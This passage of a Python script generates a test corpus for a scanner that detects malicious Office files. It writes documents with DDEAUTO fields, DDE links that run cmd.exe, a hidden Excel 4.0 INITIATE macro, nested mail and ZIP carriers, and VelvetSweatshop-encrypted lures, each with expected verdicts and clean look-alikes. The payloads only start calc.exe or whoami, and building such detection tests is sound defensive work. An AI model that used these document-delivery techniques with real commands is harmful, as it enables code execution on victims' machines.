                "suspicious",
                (Hit("equation-editor", "", "", "EQNEDT32.EXE", "formula.rtf", ""),),
                1,
            ),
        ),
        (
            "nested-zip-docx-header.eml",
            message(
                "Invoice",
                body,
                attach(
                    "invoice.zip", "application/zip", zip_members([("invoice.docx", header_docx)])
                ),
            ),
            "Three levels deep: a mail carrying a ZIP carrying a .docx whose header part holds a "
            "DDEAUTO field (mail > invoice.zip > invoice.docx > word/header2.xml).",
            "e-mail > ZIP > docx nesting",
            one(word_hit(part="invoice.zip > invoice.docx > word/header2.xml")),
        ),
        (
            "password-zip-in-body.eml",
            message(
                "Protected invoice",
                mailwriter.mime_text(
                    "The invoice is in the attached archive.\nPassword: infected\n"
                ),
                attach(
                    "invoice.zip",
                    "application/zip",
                    mailwriter.zipcrypto_zip("Q4-figures.csv", whoami_csv, b"infected"),
                ),
            ),
            "A ZipCrypto-encrypted ZIP attachment whose password ('infected') is quoted in the "
            "mail body: the scanner takes the password from the body and opens the archive.",
            "encrypted ZIP, password in the message body",
            one(
                Hit(
                    FORMULA,
                    "cmd.exe",
                    csv_command,
                    EXCEL,
                    "invoice.zip > Q4-figures.csv",
                    None,
                    True,
                    False,
                )
            ),
        ),
        (
            "winmail-dat-rtf-body.eml",
            message(
                "Meeting notes",
                mailwriter.mime_text("Meeting notes in rich text.\n"),
                attach(
                    "winmail.dat",
                    "application/ms-tnef",
                    mailwriter.winmail_dat("Meeting notes", notes_rtf),
                ),
            ),
            "Outlook rich-text mail as it leaves an Exchange server: a winmail.dat (TNEF, "
            "[MS-OXTNEF]) whose compressed RTF body holds a DDEAUTO field, parent OUTLOOK.EXE.",
            "TNEF winmail.dat RTF body",
            one(outlook_hit(notes_command, "winmail.dat > RTF body")),
        ),
    ]
    return [Sample(f"mail/{name}", data, d, t, e) for name, data, d, t, e in items]


# Office writes spinCount 100,000; the corpus uses 10,000 so that scanning it stays quick (a
# locked sample costs one key derivation per default password). The scheme is Office's.
AGILE_SPIN_COUNT = 10_000


def agile_encrypted(package: bytes, password: str, seed: str) -> bytes:
    """`package` under ECMA-376 Agile encryption ([MS-OFFCRYPTO] 2.3.4.10), the same bytes
    every run: msoffcrypto-tool's Agile encryptor draws its salts, verifier input and package
    key from `seed` instead of the system's random source, and the compound file is
    cfbwriter's (msoffcrypto's own container writer stamps the current time, and writes a
    broken file for packages under 4096 bytes). The \\x06DataSpaces streams are the fixed
    ones of [MS-OFFCRYPTO] 2.3.4.1 that Office writes."""
    counter = itertools.count()

    def seeded(size: int) -> bytes:
        return hashlib.shake_256(f"{seed}/{next(counter)}".encode()).digest(size)

    agile = ecma376_agile.ECMA376Agile
    with mock.patch.object(ecma376_agile, "_random_buffer", seeded):
        info, key = agile.generate_encryption_parameters(password, spin_count=AGILE_SPIN_COUNT)
        payload = agile.encrypt_payload(
            io.BytesIO(package), info.encryptedKey, key, info.keyData.saltValue
        )
        encryption_info = agile.get_encryption_information(info, payload, key)
    return write_cfb(
        {
            "EncryptionInfo": encryption_info,
            "EncryptedPackage": payload,
            "\x06DataSpaces/Version": DefaultContent.Version,
            "\x06DataSpaces/DataSpaceMap": DefaultContent.DataSpaceMap,
            "\x06DataSpaces/DataSpaceInfo/StrongEncryptionDataSpace": (
                DefaultContent.StrongEncryptionDataSpace
            ),
            "\x06DataSpaces/TransformInfo/StrongEncryptionTransform/\x06Primary": (
                DefaultContent.Primary
            ),
        }
    )


def encrypted_samples() -> list[Sample]:
    """Password-encrypted OOXML (ECMA-376 Agile), opened with Excel's default password or
    left locked."""
    opened = "decrypted with the default password 'VelvetSweatshop' > word/document.xml"
    dde = word_package(lure() + para(field(instr(f" {CMD_FIELD} "), result="Loading...")))
    ordinary = word_package(
        para(text_run("Quarterly figures, page "), field(instr(" PAGE "), result="1"))
        + para(field(instr(' HYPERLINK "http://example.invalid/" '), result="example"))
    )
    items: list[tuple[str, bytes, str, str, Expect]] = [
        (
            "ddeauto-velvetsweatshop.docx",
            agile_encrypted(dde, "VelvetSweatshop", "ddeauto-velvetsweatshop"),
            "DDEAUTO cmd.exe field in a .docx encrypted (ECMA-376 Agile) with VelvetSweatshop, "
            "the default password Office opens without asking: the scanner must decrypt it "
            "and name the password in the finding's location.",
            "encrypted document, default password",
            one(Hit(FIELD, "cmd.exe", CMD_LINE, WORD, opened, CMD_LINE, True, False)),
        ),
        (
            "ordinary-velvetsweatshop.docx",
            agile_encrypted(ordinary, "VelvetSweatshop", "ordinary-velvetsweatshop"),
            "Clean .docx (PAGE and HYPERLINK fields) encrypted with VelvetSweatshop: decrypted "
            "and clean, with no problem.",
            "encrypted look-alike (must stay clean)",
            CLEAN,
        ),
        (
            "unknown-password.docx",
            agile_encrypted(dde, "Inv-2017-0042", "unknown-password"),
            "The DDEAUTO .docx encrypted with a password that is neither a default nor given: "
            "reported locked (content not inspected), suspicious by default.",
            "encrypted document, unknown password (locked)",
            Expect(verdict="suspicious", finding_count=0, problems=("locked",)),
        ),
    ]
    return [Sample(f"encrypted/{name}", data, d, t, e) for name, data, d, t, e in items]


def xls_samples() -> list[Sample]:
    """Excel 97-2003 (.xls, BIFF8) and binary (.xlsb) workbooks written by
    corpus/xlswriter.py from [MS-XLS] and [MS-XLSB]: a DDE SupBook alone, a cell formula
    that uses it, an Excel 4.0 macro calling INITIATE, and clean look-alikes."""
    xw = xlswriter
    command = "cmd /c calc.exe"

    def hit(technique: str, location: str) -> Hit:
        return Hit(technique, "cmd.exe", command, EXCEL, location, command, True, False)

    namex = xw.ptg_namex(0, 1)
    numbers = [xw.number(0, 0, 1142.0), xw.number(1, 0, 17.5)]
    initiate = (
        xw.ptg_int(99)
        + xw.ptg_func(xw.FTAB_CHAR)
        + xw.ptg_str("md")
        + xw.PTG_CONCAT
        + xw.ptg_str("/c calc.exe")
        + xw.ptg_func(xw.FTAB_INITIATE)
    )
    macro_book = xw.workbook_stream(
        [xw.Sheet("Macro1", [xw.formula(0, 0, initiate)], state=1, kind=1), xw.Sheet("Sheet1")],
        [
            xw.supbook_self(2),
            xw.externsheet([(0, 0, 0)]),
            xw.lbl("\x01", xw.ptg_ref3d(0, 0, 0), flags=0x0020),
        ],
    )
    ordinary = xw.workbook_stream(
        [
            xw.Sheet(
                "Sheet1",
                [
                    *numbers,
                    xw.formula(2, 0, xw.ptg_ref(0, 0) + xw.ptg_ref(1, 0) + xw.PTG_ADD),
                    xw.formula(3, 0, xw.ptg_str("cmd|'/c calc.exe'!A0")),
                    xw.formula(4, 0, xw.ptg_ref3d(0, 0, 0)),
                ],
            ),
            xw.Sheet("Sheet2"),
        ],
        [xw.supbook_self(2), xw.externsheet([(0, 1, 1)])],
    )
    link = xw.XlsbLink("cmd", "/c calc.exe", (("_xlbgnm.A1", xw.WANT_ADVISE),))
    ddelink_xlsb = xw.xlsb_package(
        xw.XlsbBook(
            [xw.XlsbSheet("Sheet1", [(3, [xw.xlsb_formula_cell(1, namex)])])],
            [link],
        )
    )
    ordinary_xlsb = xw.xlsb_package(
        xw.XlsbBook(
            [
                xw.XlsbSheet(
                    "Sheet1",
                    [
                        (0, [xw.xlsb_number_cell(0, 1142.0)]),
                        (1, [xw.xlsb_formula_cell(0, xw.xlsb_ptg_str("cmd|'/c calc.exe'!A0"))]),
                    ],
                )
            ]
        )
    )
    link_and_formula = Expect(
        "malicious",
        (hit(LINK, "Workbook (SupBook [1])"), hit(FORMULA, "Workbook (Sheet1!B4)")),
        2,
    )
    items: list[tuple[str, bytes, str, str, Expect]] = [
        (
            "supbook-dde-unused.xls",
            xw.xls_file(xw.dde_workbook(cells=numbers)),
            "SUPBOOK whose virtual path is 'cmd' 0x03 '/c calc.exe' (a DDE data source, "
            "[MS-XLS] 2.5.277) with an automatic EXTERNNAME item, used by no cell: Excel still "
            "asks to update it when the workbook opens.",
            ".xls DDE SupBook without a formula",
            one(hit(LINK, "Workbook (SupBook [1])")),
        ),
        (
            "formula-dde-cmd.xls",
            xw.xls_file(xw.dde_workbook(cells=[*numbers, xw.formula(3, 1, namex)])),
            "Cell B4 holds =cmd|'/c calc.exe'!A0 as Excel 97-2003 saves it: a PtgNameX token "
            "naming EXTERNSHEET entry 0, which points at the DDE SUPBOOK, and its EXTERNNAME 1.",
            ".xls formula through PtgNameX, EXTERNSHEET and SUPBOOK",
            link_and_formula,
        ),
        (
            "xlm-initiate.xls",
            xw.xls_file(macro_book),
            "Hidden Excel 4.0 macro sheet run by Auto_Open whose A1 calls "
            'INITIATE(CHAR(99)&"md","/c calc.exe"): a DDE conversation with cmd, decompiled '
            "from the formula's tokens.",
            ".xls XLM macro INITIATE()",
            one(hit(FORMULA, "Workbook (Macro1 (hidden)!A1)")),
        ),
        (
            "ordinary.xls",
            xw.xls_file(ordinary),
            "Clean .xls: numbers, a sum, a 3-D reference to another sheet, and the text "
            "cmd|'/c calc.exe'!A0 only as a string literal in a formula.",
            ".xls look-alike (must stay clean)",
            CLEAN,
        ),
        (
            "ddelink-cmd.xlsb",
            ddelink_xlsb,
            "Binary workbook: an external link part whose BrtBeginSupBook (sbt 1) is a DDE "
            "source with service cmd and topic /c calc.exe, item _xlbgnm.A1, and cell B4 "
            "using it through PtgNameX and BrtExternSheet.",
            ".xlsb DDE external link and formula",
            Expect(
                "malicious",
                (
                    hit(LINK, "externalLink1.bin (external link [1])"),
                    hit(FORMULA, "sheet1.bin (Sheet1!B4)"),
                ),
                2,
            ),
        ),
        (
            "ordinary.xlsb",
            ordinary_xlsb,
            "Clean binary workbook: a number and a string formula that only quotes "
            "cmd|'/c calc.exe'!A0.",
            ".xlsb look-alike (must stay clean)",
            CLEAN,
        ),
    ]
    return [Sample(f"xls/{name}", data, d, t, e) for name, data, d, t, e in items]


def rtf_object(objdata: bytes, objclass: str) -> bytes:
    rows = rtf_objdata_rows(objdata)
    return rtf(
        r"{\pard Please double-click the attachment below.\par}"
        r"{\object\objemb\objw1500\objh900{\*\objclass " + objclass + "}"
        r"{\*\objdata " + "\n" + rows + "\n}}"
    )


def embedded_samples() -> list[Sample]:
    """Documents carried inside embedded OLE objects, each a document of its own."""
    dde_docx = word_package(lure() + para(field(instr(CMD_FIELD), result="")))
    dde_xlsx = workbook_package([sheet_xml([[formula_cell("A1", "cmd|'/c calc.exe'!A0")]])])
    clean_xlsx = workbook_package([sheet_xml([[formula_cell("A1", "SUM(1,2)")]])])
    ole_native = write_cfb(
        {"\x01Ole10Native": struct.pack("<I", 0) + packager_native("invoice.docx", dde_docx)}
    )
    pool = docwriter.word_streams(docwriter.Stories("See the attached invoice.\r"))
    pool["ObjectPool/_1105/\x01Ole10Native"] = struct.pack("<I", 0) + packager_native(
        "invoice.docx", dde_docx
    )
    embed_type = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
    inner_excel = excel_hit(location="Microsoft_Excel_Worksheet.xlsx > xl/worksheets/sheet1.xml")
    items = [
        (
            "rtf-package-docx.rtf",
            rtf_object(
                ole1_embedded("Package", packager_native("invoice.docx", dde_docx)), "Package"
            ),
            "An RTF whose OLE 1.0 Package object carries a .docx with a DDEAUTO field: opening "
            "the attachment starts Word on the inner document.",
            "document inside an RTF Package object",
            one(word_hit(part="invoice.docx > word/document.xml")),
        ),
        (
            "rtf-word-object-docx.rtf",
            rtf_object(
                ole1_embedded("Word.Document.12", write_cfb({"Package": dde_docx})),
                "Word.Document.12",
            ),
            "An RTF embedding a Word.Document.12 object: an OLE 2.0 storage whose Package "
            "stream is a .docx with a DDEAUTO field.",
            "OOXML package inside an OLE 2.0 storage inside RTF",
            one(word_hit(part="Package > word/document.xml")),
        ),
        (
            "docx-embedding-xlsx.docx",
            word_package(
                lure(),
                parts=[
                    Part("word/embeddings/Microsoft_Excel_Worksheet.xlsx", embed_type, dde_xlsx)
                ],
            ),
            "A .docx embedding a workbook (word/embeddings) whose cell holds a DDE formula.",
            "OOXML embedding scanned as a workbook",
            one(inner_excel),
        ),
        (
            "docx-ole10native-docx.docx",
            word_package(
                lure(),
                parts=[Part("word/embeddings/oleObject1.bin", CT_OLE_OBJECT, ole_native)],
            ),
            "A .docx whose oleObject1.bin holds an Ole10Native packaged .docx with DDEAUTO.",
            "packaged file inside an OOXML OLE object",
            one(word_hit(part="oleObject1.bin > invoice.docx > word/document.xml")),
        ),
        (
            "doc-objectpool-docx.doc",
            write_cfb(pool),
            "A Word 97-2003 document whose ObjectPool storage holds a packaged .docx with "
            "DDEAUTO; the host document's own text is clean.",
            ".doc ObjectPool packaged document",
            one(word_hit(part="ObjectPool/_1105/invoice.docx > word/document.xml")),
        ),
        (
            "docx-embedding-clean-xlsx.docx",
            word_package(
                lure(),
                parts=[
                    Part("word/embeddings/Microsoft_Excel_Worksheet.xlsx", embed_type, clean_xlsx)
                ],
            ),
            "Clean look-alike: a .docx embedding an ordinary workbook (SUM formula).",
            "clean embedded workbook",
            CLEAN,
        ),
    ]
    return [
        Sample(f"embedded/{name}", data, description, tested, expect)
        for name, data, description, tested, expect in items
    ]


WORD_WEB_PAGE = (
    "<html xmlns:o='urn:schemas-microsoft-com:office:office' "
    "xmlns:w='urn:schemas-microsoft-com:office:word'><head>"
    "<meta http-equiv=Content-Type content='text/html; charset=windows-1252'>"
    "<meta name=ProgId content=Word.Document></head><body lang=EN-US>"
    "<p class=MsoNormal>Invoice 2017-1142: please update the fields.</p>"
    "<p class=MsoNormal>{field}</p></body></html>"
)


def word_html_field(instruction: str, result: str) -> str:
    return (
        "<!--[if supportFields]><span style='mso-element:field-begin'></span>"
        f"{escape(instruction)}<span style='mso-element:field-separator'></span>"
        f"<![endif]--><span>{escape(result)}</span><!--[if supportFields]>"
        "<span style='mso-element:field-end'></span><![endif]-->"
    )


def html_samples() -> list[Sample]:
    """HTML that Word opens (a web page saved with a .doc name), with Word field markup."""
    dde = WORD_WEB_PAGE.replace("{field}", word_html_field(CMD_FIELD, "Loading..."))
    clean = WORD_WEB_PAGE.replace(
        "{field}",
        "Attackers write DDEAUTO c:\\windows\\system32\\cmd.exe in a field; "
        + word_html_field(' HYPERLINK "http://example.invalid/" ', "see here"),
    )
    return [
        Sample(
            "html/word-web-page-ddeauto.doc",
            dde.encode("cp1252"),
            "A Word web page saved under a .doc name (Word opens it by content) whose "
            "mso-element field markup holds DDEAUTO cmd.exe.",
            "Word field markup in HTML",
            one(word_hit(part="")),
        ),
        Sample(
            "html/word-web-page-clean.doc",
            clean.encode("cp1252"),
            "Clean look-alike: the same web page quoting DDEAUTO as text, with a HYPERLINK field.",
            "clean Word HTML",
            CLEAN,
        ),
    ]


def build_samples() -> list[Sample]:
    samples = [
        *word_samples(),
        *doc_samples(),
        *rtf_samples(),
        *excel_samples(),
        *csv_samples(),
        *clean_samples(),
        *allowed_samples(),
        *bad_samples(),
        *xml_samples(),
        *odf_samples(),
        *mail_samples(),
        *equation_samples(),
        *encrypted_samples(),
        *xls_samples(),
        *embedded_samples(),
        *html_samples(),
    ]
    paths = [sample.path for sample in samples]
    if len(set(paths)) != len(paths):
        raise ValueError("two samples share a path")
    return sorted(samples, key=lambda sample: sample.path)


def manifest_text(samples: Sequence[Sample]) -> str:
    document = {
        "version": MANIFEST_VERSION,
        "harmless": "payloads start calc.exe, notepad.exe or whoami, or name example.invalid / "
        "203.0.113.0/24; nothing is ever executed",
        "samples": [sample.to_json() for sample in samples],
    }
    return json.dumps(document, indent=2, sort_keys=True, ensure_ascii=False) + "\n"


def write_corpus(out: Path, manifest: Path) -> list[Sample]:
    """Write every sample under `out` and the manifest; remove stale files in the groups."""
    samples = build_samples()
    wanted = {sample.path for sample in samples}
    for group in GROUPS:
        folder = out / group
        if folder.is_dir():
            for stale in sorted(folder.rglob("*")):
                if stale.is_file() and stale.relative_to(out).as_posix() not in wanted:
                    stale.unlink()
    for sample in samples:
        target = out / sample.path
        target.parent.mkdir(parents=True, exist_ok=True)
        target.write_bytes(sample.data)
    manifest.parent.mkdir(parents=True, exist_ok=True)
    manifest.write_text(manifest_text(samples), encoding="utf-8", newline="\n")
    return samples


def main(argv: Sequence[str] | None = None) -> int:
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0] if __doc__ else None)
    parser.add_argument("--out", type=Path, default=SAMPLES_DIR, help="samples folder")
    parser.add_argument("--manifest", type=Path, default=MANIFEST_PATH, help="manifest file")
    args = parser.parse_args(argv)
    samples = write_corpus(args.out, args.manifest)
    print(f"wrote {len(samples)} samples to {args.out} and {args.manifest}")
    return 0


if __name__ == "__main__":
    sys.exit(main())
